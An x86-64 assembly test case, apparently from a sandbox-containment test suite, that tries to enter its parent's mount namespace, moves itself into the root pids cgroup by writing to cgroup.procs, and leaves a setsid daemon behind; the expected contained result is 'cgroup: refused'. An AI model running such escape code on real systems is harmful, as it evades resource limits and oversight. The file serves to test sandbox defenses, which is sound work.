; Moves itself out of its case's pids cgroup (into the root of the v1 pids hierarchy or of
; cgroup v2, through asmrun's mount namespace when /proc/PPID/ns/mnt lets it in), then leaves a
; setsid daemon. Contained: "cgroup: refused", and the daemon ends with the case.
%include "attack.inc"
section .data
ns_mnt: db "/ns/mnt", 0
v1:     db "/sys/fs/cgroup/pids/cgroup.procs", 0
v2:     db "/sys/fs/cgroup/cgroup.procs", 0
zero:   db "0", 10
text moved, "cgroup: moved"
text refused, "cgroup: refused"
section .text
global _start
_start:
        lea     rsi, [rel ns_mnt]
        call    enter_parent_ns         ; refused or not, the moves below are tried
.move:  lea     rdi, [rel v1]
        call    join_root
        test    rax, rax
        jz      .moved
        lea     rdi, [rel v2]
        call    join_root
        test    rax, rax
        jz      .moved
        say     refused
        jmp     .daemon
.moved: say     moved
.daemon:
        xor     edi, edi
        call    spawn_daemon
        exit_with 0

; Writes "0" to the cgroup.procs file at rdi; rax = 0 when the write went through.
join_root:
        mov     eax, SYS_open
        mov     esi, 1                  ; O_WRONLY
        syscall
        test    rax, rax
        js      .fail
        mov     edi, eax
        mov     eax, SYS_write
        lea     rsi, [rel zero]
        mov     edx, 2
        syscall
        cmp     rax, 2
        jne     .fail
        xor     eax, eax
        ret
.fail:  mov     eax, 1
        ret
